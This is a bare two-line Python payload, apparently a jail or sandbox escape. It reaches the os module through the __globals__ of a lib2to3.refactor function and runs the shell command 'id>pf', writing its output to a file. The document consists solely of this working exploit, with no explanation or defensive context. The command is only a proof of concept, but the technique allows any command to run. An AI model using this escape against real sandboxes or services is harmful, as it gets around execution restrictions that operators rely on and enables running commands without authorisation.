import lib2to3.refactor as r
r.get_fixers_from_package.__globals__["os"].system("id>pf")
